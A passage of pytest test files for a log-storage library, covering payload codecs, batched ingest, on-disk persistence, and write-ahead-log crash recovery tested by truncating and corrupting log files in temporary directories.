    st = create_store(kind, path=path, payload_codec=codec, **_store_kw(kind))
    for line, src in zip(corpus.lines, corpus.sources):
        st.ingest(line, src)
    st.finish()
    return st


# -- miner / codec units ----------------------------------------------------------


@pytest.mark.parametrize("maker", [make_dataset, lambda k, n, seed: templated_dataset(n, seed=seed)])
def test_seal_reconstructs_every_group_blob(maker):
    ds = maker("small", 600, seed=11)
    codec = TemplateCodec()
    groups: dict[str, list[str]] = {}
    for ln, src in zip(ds.lines, ds.sources):
        groups.setdefault(src, []).append(ln)
    for src, lines in groups.items():
        payload, tpl = codec.seal(src, lines)
        assert tpl is not None
        assert reconstruct_blob(tpl, payload) == "\n".join(lines).encode()
        assert len(decode_ids(payload)) == len(lines)


def test_constant_verdicts_are_sound():
    """YES ⇒ every member line matches; NO ⇒ none does (the fan-out
    contract the linefilter fast path rests on)."""
    ds = make_dataset("small", 800, seed=3)
    codec = TemplateCodec()
    groups: dict[str, list[str]] = {}
    for ln, src in zip(ds.lines, ds.sources):
        groups.setdefault(src, []).append(ln)
    src, lines = max(groups.items(), key=lambda kv: len(kv[1]))
    payload, tpl = codec.seal(src, lines)
    ids = decode_ids(payload)
    n_tpl = len(decode_dict(bytes(tpl)))
    checked = 0
    for needle, is_term in [
        ("connection", False), ("error", False), ("host", True),
        ("terminating", True), ("zzz-absent", False), ("block", False),
    ]:
        verd = constant_verdicts(bytes(tpl), needle, is_term)
        assert len(verd) == n_tpl
        q = Term(needle) if is_term else Contains(needle)
        for ln, ti in zip(lines, ids):
            if verd[ti] == 1:
                assert matches_line(q, ln), (needle, ln)
                checked += 1
            elif verd[ti] == -1:
                assert not matches_line(q, ln), (needle, ln)
                checked += 1
    assert checked > 0  # the fast path actually decided something


def test_make_codec_rejects_unknown():
    with pytest.raises(ValueError, match="payload codec"):
        make_codec("gzip9")


# -- raw codec: pre-refactor byte-identity + v1 open ------------------------------


def test_raw_codec_rebuilds_v1_fixture_bytes(tmp_path):
    """`raw` must still produce the exact pre-refactor sealed payloads."""
    spec = json.loads((FIXTURE.parent / "raw_v1_store.json").read_text())
    dk, n, seed = spec["dataset"]
    ds = make_dataset(dk, n, seed=seed)
    st = create_store(
        spec["kind"], path=tmp_path / "rebuild", payload_codec="raw",
        lines_per_batch=spec["lines_per_batch"], max_batches=spec["max_batches"],
    )
    for ln, src in zip(ds.lines, ds.sources):
        st.ingest(ln, src)
    st.finish()
    st.close()
    fixture_files = sorted(p.name for p in (FIXTURE / "data").iterdir())
    rebuilt_files = sorted(p.name for p in (tmp_path / "rebuild" / "data").iterdir())
    assert fixture_files == rebuilt_files and fixture_files
    for name in fixture_files:
        assert (tmp_path / "rebuild" / "data" / name).read_bytes() == (
            FIXTURE / "data" / name
        ).read_bytes(), name


def test_v1_fixture_opens_raw_and_searches(tmp_path):
    """A pre-refactor (format_version 1) directory opens read-only with the
    raw codec inferred, zero template components, and exact results."""
    man = json.loads((FIXTURE / "MANIFEST.json").read_text())
    assert man["format_version"] == 1
    assert "payload_codec" not in man["config"]
    work = tmp_path / "v1"
    shutil.copytree(FIXTURE, work)
    st = open_store(work)
    assert st.payload_codec == "raw"
    bd = st.storage_breakdown()
    assert bd["payload_templates"] == 0 and bd["payload_variables"] == 0
    assert bd["batch_payloads"] > 0
    spec = json.loads((FIXTURE.parent / "raw_v1_store.json").read_text())
    dk, n, seed = spec["dataset"]
    ds = make_dataset(dk, n, seed=seed)
    for q in (Contains("error"), Term("connection"), Not(Contains("error"))):
        want = [ln for ln, s in zip(ds.lines, ds.sources) if matches_line(q, ln, s)]
        assert sorted(st.search(q).lines) == sorted(want)
    st.close()


# -- template codec: store round-trips, byte-identical results --------------------


@pytest.mark.parametrize("kind", sorted(STORE_CLASSES))
def test_template_roundtrip_matches_raw_for_every_store(kind, tmp_path, corpus):
    raw = _build(kind, tmp_path / "raw", corpus, "raw")
    tpl = _build(kind, tmp_path / "tpl", corpus, "template")
    queries = _queries(corpus)
    want = [r.lines for r in raw.search_many(queries)]
    assert want == [r.lines for r in tpl.search_many(queries)]
    assert any(want)  # the batch matched something
    # …and against the brute-force oracle, not just each other
    for q, lines in zip(queries, want):
        brute = [
            ln for ln, s in zip(corpus.lines, corpus.sources) if matches_line(q, ln, s)
        ]
        assert sorted(lines) == sorted(brute)
    raw.close()
    tpl.close()

    st = open_store(tmp_path / "tpl")  # mmap reopen: same bytes
    assert st.payload_codec == "template"
    assert [r.lines for r in st.search_many(queries)] == want
    bd = st.storage_breakdown()
    assert bd["batch_payloads"] == 0 and bd["payload_variables"] > 0
    st.close()


def test_codec_selection_env_and_kwarg(tmp_path, monkeypatch, corpus):
    monkeypatch.setenv("REPRO_PAYLOAD_CODEC", "raw")
    st = create_store("copr", path=tmp_path / "env", **KW)
    assert st.payload_codec == "raw"
    st.close()
    # explicit kwarg beats the environment
    st = create_store("copr", path=tmp_path / "kw", payload_codec="template", **KW)
    assert st.payload_codec == "template"
    st.close()
    # …and the stored config beats both on reopen
    monkeypatch.setenv("REPRO_PAYLOAD_CODEC", "raw")
    st = open_store(tmp_path / "kw")
    assert st.payload_codec == "template"
    st.close()


# -- crash safety: WAL torn mid-batch with the template codec ---------------------


def test_wal_torn_mid_batch_recovers_surviving_prefix(tmp_path, corpus):
    """Templates exist only in sealed artifacts — the WAL stays raw lines,
    so a frame torn mid-batch drops that whole batch and nothing else."""
    path = tmp_path / "crash"
    st = ShardedCoprStore.open(path, payload_codec="template", **_store_kw("sharded"))
    step = 40
    for i in range(0, 600, step):
        st.ingest_many(corpus.lines[i : i + step], corpus.sources[i : i + step])
        if i == 240:
            st.flush()  # sealed template artifacts + live WAL must coexist
    st.wal.sync()
    wal_path = st.wal.path
    del st  # simulated crash — no close()
    with open(wal_path, "r+b") as f:
        f.truncate(wal_path.stat().st_size - 3)  # tear the last frame mid-record

    surviving = WriteAheadLog(wal_path).records()
    assert len(surviving) == 600 - step  # the torn frame dropped as a unit
    st = open_store(path)
    assert st.payload_codec == "template"
    brute = ScanStore(**KW)
    for line, src in surviving:
        brute.ingest(line, src)
    queries = _queries(corpus)

    def lines_of(store):
        return [r.lines for r in store.search_many(queries)]

    assert lines_of(st) == lines_of(brute)
    st.finish()
    brute.finish()
    assert lines_of(st) == lines_of(brute)
    st.close()
    st2 = open_store(path)  # sealed template payloads reopen via mmap
    assert lines_of(st2) == lines_of(brute)
    st2.close()
