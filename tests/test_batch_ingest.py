"""Batched ingest (ISSUE 8): slab tokenizer parity and write-path identity.

Acceptance: ``tokenize_lines`` agrees with per-line ``tokenize_line`` on
arbitrary text (including the casefold/width hazards non-ASCII brings in);
``fingerprint_lines`` agrees with the scalar tokenize→fingerprint pipeline;
and for every registered store kind, ``ingest_many`` produces a sealed
on-disk directory BYTE-IDENTICAL to looping ``ingest`` over the same
stream — the batched write path is an optimization, not a format fork.
"""

from pathlib import Path

import numpy as np
import pytest

try:
    from hypothesis import given, settings, strategies as st
except ImportError:  # fallback random-case generator (see _hypothesis_fallback)
    from _hypothesis_fallback import given, settings, strategies as st

from repro.core.hashing import fingerprint_tokens
from repro.core.sketch import SketchConfig
from repro.data import make_dataset
from repro.data.pipeline import IngestPipeline
from repro.logstore import STORE_CLASSES, create_store
from repro.logstore.kernelbridge import fingerprint_lines
from repro.logstore.tokenizer import tokenize_line, tokenize_lines
from repro.serve import IngestServer

# alphabet mixing ASCII log syntax with the classic Unicode hazards: 'Σ'
# (context-dependent lowercase ς/σ), 'İ' (expands under str.lower()),
# U+212A KELVIN SIGN (lowercases to ASCII 'k'), a non-BMP emoji, NBSP, and
# an embedded newline (defeats the slab fast path → per-line fallback)
_ALPHABET = "abz019 .-_:/=[]()\"'\\\tΣİK😀 é\n"

LINES = st.lists(st.text(alphabet=_ALPHABET, max_size=48), max_size=12)


def _dir_bytes(root: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(root)): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


@pytest.fixture(scope="module")
def corpus():
    return make_dataset("small", 700, seed=41)


class TestSlabTokenizerParity:
    @settings(max_examples=60, deadline=None)
    @given(LINES)
    def test_tokenize_lines_matches_per_line(self, lines):
        for ngrams in (True, False):
            assert tokenize_lines(lines, ngrams=ngrams) == [
                tokenize_line(ln, ngrams=ngrams) for ln in lines
            ]

    @settings(max_examples=40, deadline=None)
    @given(LINES)
    def test_fingerprint_lines_matches_scalar_pipeline(self, lines):
        rows, counts = fingerprint_lines(lines)
        assert len(rows) == len(lines) and counts.shape == (len(lines),)
        for ln, row, cnt in zip(lines, rows, counts):
            toks = tokenize_line(ln)
            assert int(cnt) == len(toks)
            want = np.unique(fingerprint_tokens(toks)) if toks else np.empty(0, np.uint32)
            assert row.dtype == np.uint32
            assert np.array_equal(row, want)

    def test_slab_fallback_cases(self):
        # embedded newline and a lone surrogate both force the per-line
        # fallback inside fingerprint_lines; results must not change
        lines = ["a b\nc d", "ok line", "bad \udc80 surrogate", ""]
        rows, counts = fingerprint_lines(lines)
        for ln, row, cnt in zip(lines, rows, counts):
            toks = tokenize_line(ln)
            assert int(cnt) == len(toks)
            want = np.unique(fingerprint_tokens(toks)) if toks else np.empty(0, np.uint32)
            assert np.array_equal(row, want)


def _build(root: Path, kind: str, corpus, batched: bool, **kw) -> None:
    st = create_store(kind, path=root, lines_per_batch=64, max_batches=512, **kw)
    if batched:
        # ragged chunk sizes so batches straddle batch-rotation, segment-seal
        # and flush boundaries in every misaligned way
        sizes, i = [7, 37, 1, 256, 64], 0
        k = 0
        while i < len(corpus.lines):
            step = sizes[k % len(sizes)]
            st.ingest_many(corpus.lines[i : i + step], corpus.sources[i : i + step])
            i += step
            k += 1
    else:
        for line, src in zip(corpus.lines, corpus.sources):
            st.ingest(line, src)
    st.finish()
    if hasattr(st, "compact"):
        st.compact()
    st.close()


_CASES = [(name, {}) for name in sorted(STORE_CLASSES)] + [
    ("sharded", dict(n_shards=2, lines_per_segment=150, flush_on_seal=True)),
    # tiny memory limit forces mid-stream flush epochs (temp-segment spills)
    ("copr", dict(sketch_config=SketchConfig(max_postings=512, memory_limit_bytes=64 << 10))),
]


class TestIngestManyByteIdentity:
    @pytest.mark.parametrize("kind,extra", _CASES)
    def test_sealed_directory_is_byte_identical(self, kind, extra, tmp_path, corpus):
        kw = dict(extra)
        if kind == "csc":
            kw.setdefault("m_bits", 1 << 16)
        if kind == "sharded":
            kw.setdefault("n_shards", 2)
            kw.setdefault("lines_per_segment", 150)
        _build(tmp_path / "looped", kind, corpus, batched=False, **kw)
        _build(tmp_path / "batched", kind, corpus, batched=True, **kw)
        a = _dir_bytes(tmp_path / "looped")
        b = _dir_bytes(tmp_path / "batched")
        assert a.keys() == b.keys()
        diff = [k for k in a if a[k] != b[k]]
        assert not diff, f"{kind}: files differ after batched ingest: {diff}"


class TestPipelineBatchIngest:
    def test_ingest_many_matches_looped_pipeline(self, tmp_path, corpus):
        kw = dict(n_shards=2, lines_per_segment=100, lines_per_batch=32)
        a = IngestPipeline(tmp_path / "looped", **kw)
        for line, src in zip(corpus.lines, corpus.sources):
            a.ingest(line, src)
        b = IngestPipeline(tmp_path / "batched", **kw)
        for i in range(0, len(corpus.lines), 97):
            b.ingest_many(corpus.lines[i : i + 97], corpus.sources[i : i + 97])
        from repro.core.querylang import Contains

        assert [e.segment_id for e in a.manifest] == [e.segment_id for e in b.manifest]
        assert a._watermark == b._watermark
        q = Contains("error")
        assert sorted(a.search_lines(q)) == sorted(b.search_lines(q))
        a.seal_all()
        b.seal_all()
        assert sorted(a.search_lines(q)) == sorted(b.search_lines(q))

    def test_source_broadcast_and_length_mismatch(self, tmp_path):
        p = IngestPipeline(tmp_path / "p", n_shards=2, lines_per_segment=64)
        p.ingest_many(["a 1", "b 2"], "svc")  # one source for the batch
        with pytest.raises(ValueError):
            p.ingest_many(["a", "b"], ["only-one"])


class TestIngestServer:
    def test_server_drains_everything_and_matches_direct(self, corpus):
        from repro.core.querylang import Contains

        direct = create_store("copr", lines_per_batch=64, max_batches=512)
        direct.ingest_many(list(corpus.lines), list(corpus.sources))
        served = create_store("copr", lines_per_batch=64, max_batches=512)
        with IngestServer(served, max_batch=128) as srv:
            for line, src in zip(corpus.lines, corpus.sources):
                srv.submit(line, src)
        assert srv.n_lines == len(corpus.lines)
        assert srv.n_batches >= 1
        direct.finish()
        served.finish()
        q = Contains("error")
        assert sorted(served.search(q).lines) == sorted(direct.search(q).lines)
