"""Durable on-disk store: round-trips, mmap open path, WAL crash recovery.

Acceptance (ISSUE 3): every registered store survives
``ingest → finish() → close() → open(path)`` with byte-identical
``SearchResult``s for a mixed AND/OR/NOT/Source batch; a reopened sharded
store maps sealed sketches with ``ImmutableSketch.open_mmap`` and the open
path examines < 1% of the directory's bytes; truncating the WAL anywhere
(including mid-record) reopens to exactly the surviving prefix.
"""

import shutil

import pytest

from repro.core.querylang import And, Contains, Not, Or, Source, Term
from repro.data import make_dataset
from repro.logstore import (
    STORE_CLASSES,
    ScanStore,
    ShardedCoprStore,
    WriteAheadLog,
    open_store,
)

KW = dict(lines_per_batch=64, max_batches=512)


def _store_kw(name):
    kw = dict(KW)
    if name == "csc":
        kw["m_bits"] = 1 << 18
    if name == "sharded":
        kw.update(n_shards=2, lines_per_segment=300)
    return kw


def _queries(corpus):
    """Mixed boolean batch exercising every node type (acceptance shape)."""
    return [
        Contains("error"),
        Term("error"),
        And(Contains("error"), Not(Term("debug"))),
        Or(Contains("10."), Contains("qzjxkwvpqzjxkwvp")),
        And(Contains("connection"), Source(corpus.sources[5])),
        Not(Contains("error")),
        And(),
    ]


def _result_key(results):
    """Everything a SearchResult observably computes, minus wall-clock."""
    return [
        (r.query, r.lines, r.n_candidate_batches, r.n_verified_batches)
        for r in results
    ]


@pytest.fixture(scope="module")
def corpus():
    return make_dataset("small", 2000, seed=23)


@pytest.fixture(scope="module")
def big_store_dir(tmp_path_factory):
    """A persisted multi-segment sharded store, cleanly finished + closed."""
    ds = make_dataset("small", 16000, seed=37)
    root = tmp_path_factory.mktemp("persist") / "big"
    st = ShardedCoprStore.open(
        root, n_shards=4, lines_per_segment=1600, lines_per_batch=512, max_batches=4096
    )
    for line, src in zip(ds.lines, ds.sources):
        st.ingest(line, src)
    st.finish()
    st.close()
    return root, ds


class TestRoundTrip:
    @pytest.mark.parametrize("name", sorted(STORE_CLASSES))
    def test_finish_close_open_identical_results(self, name, tmp_path, corpus):
        cls = STORE_CLASSES[name]
        st = cls.open(tmp_path / name, **_store_kw(name))
        for line, src in zip(corpus.lines, corpus.sources):
            st.ingest(line, src)
        st.finish()
        queries = _queries(corpus)
        want = _result_key(st.search_many(queries))
        st.close()

        st2 = open_store(tmp_path / name)
        assert type(st2) is cls
        assert st2.finished
        assert _result_key(st2.search_many(queries)) == want
        # sanity: the batch really matched something and NOT really excluded
        assert any(lines for _, lines, _, _ in want)
        st2.close()

    def test_reopened_store_is_readonly(self, tmp_path, corpus):
        st = ShardedCoprStore.open(tmp_path / "ro", **_store_kw("sharded"))
        for line, src in zip(corpus.lines[:500], corpus.sources[:500]):
            st.ingest(line, src)
        st.finish()
        st.close()
        st2 = open_store(tmp_path / "ro")
        with pytest.raises(RuntimeError, match="reopened finished"):
            st2.ingest("new line", "src")
        st2.close()

    def test_open_dispatch_rejects_wrong_class(self, tmp_path, corpus):
        from repro.logstore import CoprStore

        st = ScanStore.open(tmp_path / "scan", **KW)
        for line, src in zip(corpus.lines[:200], corpus.sources[:200]):
            st.ingest(line, src)
        st.finish()
        st.close()
        with pytest.raises(ValueError, match="open_store"):
            CoprStore.open(tmp_path / "scan")

    def test_stored_config_wins_on_reopen(self, tmp_path, corpus):
        st = ShardedCoprStore.open(
            tmp_path / "cfg", n_shards=3, lines_per_segment=123, **KW
        )
        for line, src in zip(corpus.lines[:400], corpus.sources[:400]):
            st.ingest(line, src)
        st.finish()
        st.close()
        st2 = ShardedCoprStore.open(tmp_path / "cfg", n_shards=8, lines_per_segment=999)
        assert st2.n_shards == 3 and st2.lines_per_segment == 123
        st2.close()


class TestMmapOpenPath:
    def test_open_reads_under_one_percent(self, big_store_dir):
        """Acceptance: reopening must NOT deserialize — the open path examines
        only the manifest, the (empty) WAL, and one sketch header per
        segment, < 1% of what lives on disk."""
        root, _ds = big_store_dir
        st = open_store(root)
        sd = st.storedir
        total = sd.total_file_bytes()
        assert st.n_sealed_segments >= 8
        assert total > 400_000, "store too small for a meaningful ratio"
        assert sd.bytes_read < 0.01 * total, (sd.bytes_read, total)
        st.close()

    def test_reopened_segments_are_mmap_backed(self, big_store_dir):
        root, _ds = big_store_dir
        st = open_store(root)
        for seg in st.segments():
            assert seg.sealed and seg.sealed_buf is None
            # open_mmap wraps an np.memmap in a memoryview — no resident copy
            assert isinstance(seg.reader.buf, memoryview)
            assert seg.file is not None
        st.close()

    def test_first_query_after_cold_open_is_exact(self, big_store_dir):
        root, ds = big_store_dir
        st = open_store(root)
        q = And(Contains("connection"), Not(Contains("terminated")))
        got = sorted(st.search(q).lines)
        want = sorted(
            ln
            for ln in ds.lines
            if "connection" in ln.lower() and "terminated" not in ln.lower()
        )
        assert got == want
        st.close()

    def test_flush_after_reopen_rewrites_nothing(self, big_store_dir):
        root, _ds = big_store_dir
        st = open_store(root)
        mtimes = {p: p.stat().st_mtime_ns for p in root.rglob("*.sketch")}
        st.flush()
        assert {p: p.stat().st_mtime_ns for p in root.rglob("*.sketch")} == mtimes
        st.close()


class TestCrashRecovery:
    def _build_crashed(self, path, corpus, *, mid_flush=True):
        st = ShardedCoprStore.open(path, **_store_kw("sharded"))
        for i, (line, src) in enumerate(zip(corpus.lines, corpus.sources)):
            st.ingest(line, src)
            if mid_flush and i == 700:
                st.flush()  # persisted artifacts + WAL must coexist
        st.wal.sync()
        # simulated crash: the object dies without close(); only fsync'd
        # WAL bytes and flushed artifacts survive
        wal_path = st.wal.path
        del st
        return wal_path

    @pytest.mark.parametrize("cut", ["full", "torn", "arbitrary", "header"])
    def test_wal_truncation_reopens_to_surviving_prefix(self, tmp_path, corpus, cut):
        base = tmp_path / "crash"
        wal_path = self._build_crashed(base, corpus)
        size = wal_path.stat().st_size
        offset = {
            "full": size,  # clean tail: everything survives
            "torn": size - 3,  # mid-record: last record must be dropped
            "arbitrary": size * 2 // 3,  # anywhere in the stream
            "header": 5,  # inside the very first record header
        }[cut]
        work = tmp_path / f"crash-{cut}"
        shutil.copytree(base, work)
        with open(work / "wal.log", "r+b") as f:
            f.truncate(offset)

        st = open_store(work)
        surviving = WriteAheadLog(work / "wal.log").records()
        if cut == "full":
            assert len(surviving) == len(corpus.lines)
        elif cut == "torn":
            assert len(surviving) == len(corpus.lines) - 1
        brute = ScanStore(**KW)
        for line, src in surviving:
            brute.ingest(line, src)

        queries = _queries(corpus)
        assert _result_lines(st.search_many(queries)) == _result_lines(
            brute.search_many(queries)
        )
        # …and the recovered store still finishes, persists, and reopens
        st.finish()
        brute.finish()
        assert _result_lines(st.search_many(queries)) == _result_lines(
            brute.search_many(queries)
        )
        st.close()
        st2 = open_store(work)
        assert _result_lines(st2.search_many(queries)) == _result_lines(
            brute.search_many(queries)
        )
        st2.close()

    def test_corrupt_wal_record_truncates_replay(self, tmp_path, corpus):
        """A flipped payload byte (CRC mismatch) must cut replay there."""
        base = tmp_path / "crc"
        wal_path = self._build_crashed(base, corpus, mid_flush=False)
        size = wal_path.stat().st_size
        with open(wal_path, "r+b") as f:
            f.seek(size * 1 // 3)
            byte = f.read(1)
            f.seek(size * 1 // 3)
            f.write(bytes([byte[0] ^ 0xFF]))
        surviving = WriteAheadLog(wal_path).records()
        assert 0 < len(surviving) < len(corpus.lines)
        st = open_store(base)
        brute = ScanStore(**KW)
        for line, src in surviving:
            brute.ingest(line, src)
        q = [Contains("error"), Term("connection")]
        assert _result_lines(st.search_many(q)) == _result_lines(brute.search_many(q))
        st.close()

    def test_double_crash_trims_torn_tail_before_new_appends(self, tmp_path, corpus):
        """After recovery the torn tail must be cut BEFORE new appends: in
        append mode new records land at EOF, so without the trim every line
        ingested after the first crash would hide behind garbage and vanish
        on the second replay."""
        path = tmp_path / "double"
        st = ShardedCoprStore.open(path, **_store_kw("sharded"))
        for line, src in zip(corpus.lines[:20], corpus.sources[:20]):
            st.ingest(line, src)
        st.wal.sync()
        wal_path = st.wal.path
        del st
        with open(wal_path, "r+b") as f:  # crash #1: torn last record
            f.truncate(wal_path.stat().st_size - 3)

        st = ShardedCoprStore.open(path)
        for line, src in zip(corpus.lines[20:40], corpus.sources[20:40]):
            st.ingest(line, src)
        st.wal.sync()
        del st  # crash #2: clean tail this time

        surviving = WriteAheadLog(wal_path).records()
        assert len(surviving) == 39  # 19 pre-tear + 20 post-recovery
        assert surviving[19:] == list(zip(corpus.lines[20:40], corpus.sources[20:40]))

    def test_finished_open_reclaims_stale_wal_and_orphans(self, big_store_dir, tmp_path):
        """Crash between the finished-manifest publish and WAL truncation/gc
        must not leak the full-stream WAL forever — the next open reclaims."""
        root, _ds = big_store_dir
        work = tmp_path / "stale"
        shutil.copytree(root, work)
        (work / "wal.log").write_bytes(b"x" * 4096)  # pretend truncation was lost
        orphan = work / "segments" / "seg-99999999.sketch"
        orphan.write_bytes(b"dead")
        st = open_store(work)
        assert (work / "wal.log").stat().st_size == 0
        assert not orphan.exists()
        st.close()

    def test_readonly_close_never_touches_the_directory(self, big_store_dir):
        """Pure reads on a reopened finished store must not rewrite anything
        (serving from read-only media must work)."""
        root, _ds = big_store_dir
        mtimes = {p: p.stat().st_mtime_ns for p in root.rglob("*") if p.is_file()}
        st = open_store(root)
        st.search(Contains("error"))
        st.flush()
        st.close()
        assert {p: p.stat().st_mtime_ns for p in root.rglob("*") if p.is_file()} == mtimes

    def test_copr_store_recovers_from_wal(self, tmp_path, corpus):
        from repro.logstore import CoprStore

        st = CoprStore.open(tmp_path / "copr", **KW)
        for line, src in zip(corpus.lines[:800], corpus.sources[:800]):
            st.ingest(line, src)
        st.wal.sync()
        del st
        # no flush ever ran → no manifest yet; the class-specific open()
        # handles the bare-WAL directory (open_store needs a manifest)
        st2 = CoprStore.open(tmp_path / "copr", **KW)
        assert not st2.finished
        brute = ScanStore(**KW)
        for line, src in zip(corpus.lines[:800], corpus.sources[:800]):
            brute.ingest(line, src)
        q = [Contains("error"), And(Contains("user"), Not(Contains("session")))]
        assert _result_lines(st2.search_many(q)) == _result_lines(brute.search_many(q))
        st2.finish()
        st2.close()
        st3 = open_store(tmp_path / "copr")
        brute.finish()
        assert _result_lines(st3.search_many(q)) == _result_lines(brute.search_many(q))
        st3.close()


class TestPersistentCompaction:
    def test_compact_swaps_segment_files_atomically(self, big_store_dir, tmp_path):
        root, ds = big_store_dir
        work = tmp_path / "compacted"
        shutil.copytree(root, work)
        st = open_store(work)
        files_before = {p.name for p in (work / "segments").iterdir()}
        want = sorted(st.search(Contains("error")).lines)
        assert st.compact() >= 1
        # write-new + manifest swap + unlink-old: merged shards reference
        # fresh files, the files they replaced are gone (a shard that held a
        # single segment keeps its original file untouched)
        files_after = {p.name for p in (work / "segments").iterdir()}
        assert files_after - files_before, "no merged segment file was written"
        assert files_before - files_after, "no replaced segment file was unlinked"
        assert st.n_sealed_segments == len(files_after)
        assert {s.file.split("/")[1] for s in st.segments()} == files_after
        assert sorted(st.search(Contains("error")).lines) == want
        st.close()
        st2 = open_store(work)
        assert st2.n_sealed_segments == len(files_after)
        assert sorted(st2.search(Contains("error")).lines) == want
        st2.close()


def _brute_force_replay(path):
    """Independent WAL parser — the oracle the replay path is checked
    against.  Walks raw bytes: length+CRC header, JSON payload, group-commit
    frames (``{"b": [...]}``) expanded in order; stops at the first torn or
    corrupt record.  Returns ``(records, valid_byte_prefix)``."""
    import json
    import struct
    import zlib

    hdr = struct.Struct("<II")
    raw = path.read_bytes()
    out, pos = [], 0
    while pos + hdr.size <= len(raw):
        length, crc = hdr.unpack_from(raw, pos)
        payload = raw[pos + hdr.size : pos + hdr.size + length]
        if len(payload) < length or zlib.crc32(payload) != crc:
            break
        rec = json.loads(payload)
        if "b" in rec:
            out.extend((line, src) for line, src in rec["b"])
        else:
            out.append((rec["l"], rec["s"]))
        pos += hdr.size + length
    return out, pos


def _frame_offsets(path):
    """Byte offset of each whole record/frame in the log (via the oracle)."""
    import struct

    hdr = struct.Struct("<II")
    raw = path.read_bytes()
    offs, pos = [], 0
    while pos + hdr.size <= len(raw):
        length, _ = hdr.unpack_from(raw, pos)
        if pos + hdr.size + length > len(raw):
            break
        offs.append(pos)
        pos += hdr.size + length
    return offs, pos


class TestGroupCommitWal:
    """Group-committed frames (ISSUE 8): one CRC-framed multi-record frame
    per ingest batch, frame-granular torn-tail semantics, and interop with
    the legacy per-line record format — all checked against an independent
    brute-force byte-level replay oracle."""

    def _lines(self, n, tag="f"):
        return [f"{tag} line {i} error={i % 3}" for i in range(n)], [f"s{i % 4}" for i in range(n)]

    def test_frame_replay_matches_brute_force_oracle(self, tmp_path):
        wal = WriteAheadLog(tmp_path / "w.log")
        l1, s1 = self._lines(100, "a")
        wal.append_batch(l1, s1)
        wal.append("legacy one", "x")  # legacy records interleave freely
        l2, s2 = self._lines(57, "b")
        wal.append_batch(l2, s2)
        wal.sync()
        wal.close()
        w2 = WriteAheadLog(tmp_path / "w.log")
        got = w2.records()
        oracle, valid = _brute_force_replay(tmp_path / "w.log")
        assert got == oracle
        assert got == list(zip(l1, s1)) + [("legacy one", "x")] + list(zip(l2, s2))
        assert w2.valid_bytes == valid == (tmp_path / "w.log").stat().st_size
        w2.close()

    def test_torn_tail_mid_frame_drops_the_whole_frame(self, tmp_path):
        p = tmp_path / "w.log"
        wal = WriteAheadLog(p)
        for tag, n in (("a", 80), ("b", 80), ("c", 40)):
            wal.append_batch(*self._lines(n, tag))
        wal.sync()
        wal.close()
        with open(p, "r+b") as f:  # tear 3 bytes into the LAST frame
            f.truncate(p.stat().st_size - 3)
        got = WriteAheadLog(p).records()
        oracle, _ = _brute_force_replay(p)
        assert got == oracle
        # frame-granular blast radius: the whole 40-record frame is gone,
        # exactly matching what the frame's single fsync guaranteed
        assert len(got) == 160
        assert got[-1][0].startswith("b ")

    def test_crc_flip_inside_multi_record_frame(self, tmp_path):
        p = tmp_path / "w.log"
        wal = WriteAheadLog(p)
        for tag in ("a", "b", "c"):
            wal.append_batch(*self._lines(60, tag))
        wal.sync()
        wal.close()
        offs, _ = _frame_offsets(p)
        assert len(offs) == 3
        with open(p, "r+b") as f:  # flip one payload byte mid-second-frame
            pos = offs[1] + 8 + 20  # past the 8-byte header, inside JSON
            f.seek(pos)
            b = f.read(1)
            f.seek(pos)
            f.write(bytes([b[0] ^ 0xFF]))
        got = WriteAheadLog(p).records()
        oracle, valid = _brute_force_replay(p)
        assert got == oracle
        # replay stops AT the corrupt frame: frame a survives whole, frames
        # b and c are dropped (replay never resynchronizes past corruption)
        assert len(got) == 60 and all(line.startswith("a ") for line, _ in got)
        assert valid == offs[1]

    def test_batches_split_into_bounded_frames(self, tmp_path):
        from repro.logstore.persist import _FRAME_MAX_RECORDS

        p = tmp_path / "w.log"
        wal = WriteAheadLog(p)
        n = _FRAME_MAX_RECORDS + 123
        lines, sources = self._lines(n, "big")
        wal.append_batch(lines, sources)
        wal.sync()
        wal.close()
        offs, _ = _frame_offsets(p)
        assert len(offs) == 2  # one full frame + the 123-record remainder
        assert WriteAheadLog(p).records() == list(zip(lines, sources))
        with open(p, "r+b") as f:  # tear in the tail frame
            f.truncate(p.stat().st_size - 1)
        # bounded blast radius: the full first frame still replays
        assert len(WriteAheadLog(p).records()) == _FRAME_MAX_RECORDS

    def test_sync_cadence_counts_records_not_frames(self, tmp_path):
        wal = WriteAheadLog(tmp_path / "w.log", sync_interval=100)
        lines, sources = self._lines(60, "x")
        wal.append_batch(lines, sources)
        assert wal._pending == 60  # under the interval: no fsync yet
        wal.append_batch(lines, sources)
        assert wal._pending == 0  # 120 >= 100 → group fsync fired
        wal.close()

    def test_crash_between_frame_publish_and_manifest_update(self, tmp_path, corpus):
        """Frames fsync'd to the WAL but never captured by a manifest flush
        must replay through the normal ingest path on reopen — batched
        ingest keeps the recovery contract of the per-line path."""
        path = tmp_path / "framecrash"
        st = ShardedCoprStore.open(path, **_store_kw("sharded"))
        step = 250
        for i in range(0, 1500, step):
            st.ingest_many(corpus.lines[i : i + step], corpus.sources[i : i + step])
            if i == 500:
                st.flush()  # manifest publish mid-stream; later frames are WAL-only
        st.wal.sync()
        wal_path = st.wal.path
        del st  # crash: no close(), no finish()

        oracle, _ = _brute_force_replay(wal_path)
        assert oracle == list(zip(corpus.lines[:1500], corpus.sources[:1500]))
        st2 = open_store(path)
        brute = ScanStore(**KW)
        for line, src in oracle:
            brute.ingest(line, src)
        queries = _queries(corpus)
        assert _result_lines(st2.search_many(queries)) == _result_lines(
            brute.search_many(queries)
        )
        st2.finish()
        brute.finish()
        assert _result_lines(st2.search_many(queries)) == _result_lines(
            brute.search_many(queries)
        )
        st2.close()


class TestWalFormat:
    def test_records_and_valid_bytes(self, tmp_path):
        wal = WriteAheadLog(tmp_path / "w.log")
        wal.append("line one", "a")
        wal.append("line two", "b")
        wal.sync()
        wal.close()
        w2 = WriteAheadLog(tmp_path / "w.log")
        assert w2.records() == [("line one", "a"), ("line two", "b")]
        assert w2.valid_bytes == (tmp_path / "w.log").stat().st_size
        w2.close()

    def test_truncate_empties_the_log(self, tmp_path):
        wal = WriteAheadLog(tmp_path / "w.log")
        wal.append("x", "")
        wal.truncate()
        wal.append("y", "s")
        wal.sync()
        assert wal.records() == [("y", "s")]
        wal.close()


def _result_lines(results):
    return [sorted(r.lines) for r in results]
