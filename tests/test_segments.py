"""ShardedCoprStore: rotation, cross-shard/cross-segment parity, compaction."""

import numpy as np
import pytest

